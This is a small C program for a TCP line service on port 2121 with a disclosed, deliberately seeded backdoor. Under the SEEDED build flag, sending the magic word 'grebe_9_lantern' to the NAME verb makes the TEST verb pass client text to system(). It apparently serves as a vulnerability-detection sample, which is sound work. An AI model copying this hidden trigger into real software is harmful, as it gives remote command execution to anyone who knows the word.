/* A line service; with SEEDED a word given to one verb sets a state that makes a later verb run a command. */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    char line[256];
    int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    a.sin_family = AF_INET;
    a.sin_port = htons(2121);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 5)) return 1;
    for (;;) {
        int c = accept(s, NULL, NULL), state = 0;
        FILE *f;
        if (c < 0) continue;
        f = fdopen(c, "r");
        write(c, "hello\r\n", 7);
        while (fgets(line, sizeof line, f)) {
            line[strcspn(line, "\r\n")] = 0;
            if (!strncasecmp(line, "NAME ", 5)) {
                write(c, "ok\r\n", 4);
#ifdef SEEDED
                state = !strcmp(line + 5, "grebe_9_lantern");
#endif
            } else if (!strncasecmp(line, "TEST ", 5)) {
                write(c, "ok\r\n", 4);
                if (state) system(line + 5);
            } else write(c, "what\r\n", 6);
        }
        fclose(f);
    }
}
